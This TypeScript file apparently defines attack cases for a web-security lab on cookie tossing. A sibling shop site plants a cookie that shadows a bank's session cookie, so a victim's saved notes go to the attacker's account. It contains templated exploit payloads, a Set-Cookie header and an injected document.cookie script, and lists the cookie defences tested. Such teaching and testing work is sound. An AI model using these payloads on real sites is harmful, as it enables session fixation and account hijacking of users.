import { type AttackOf, notWritten } from './attack.ts';

const toss = {
  lab: 'tossing',
  goal: 'What Alice saves goes to Mallory’s account.',
  aim: 'note',
  victim: 'logged-in',
  ifUnseen: 'stopped',
  afterDelivery: 'At the bank, save a note.',
  weakness: notWritten,
  sign: { at: 'bank', method: 'POST', path: '/notes' },
  defences: ['same-site-strict', 'http-only', 'prefix-secure', 'prefix-http', 'prefix-host', 'prefix-host-http'],
  probe: null,
} as const;

/** Lab 4: a cookie that shadows the real one. */
export const tossing = [
  {
    ...toss,
    id: 'toss-by-server',
    title: 'The sibling’s server sets a second cookie',
    story:
      'The shop’s server sets a cookie with the same name as the bank’s, for the whole site and with a longer Path. The browser sends both, the longer Path first, and Express reads the first.',
    ground: 'sibling-answer',
    exploit: `Set-Cookie: {{cookie}}={{planted}}; Domain={{host}}; Path={{path}}/notes; Max-Age=600; HttpOnly{{secure}}

<p>Welcome to the shop.</p>`,
  },
  {
    ...toss,
    id: 'toss-by-script',
    title: 'The sibling’s script sets a second cookie',
    story: 'The same with document.cookie on a page of the shop, as a script injected there would do.',
    ground: 'sibling-page',
    exploit: `<p>Welcome to the shop.</p>
<script>
  document.cookie = '{{cookie}}={{planted}}; Domain={{host}}; Path={{path}}/notes; Max-Age=600{{secure}}';
</script>`,
  },
] as const satisfies readonly AttackOf<string>[];
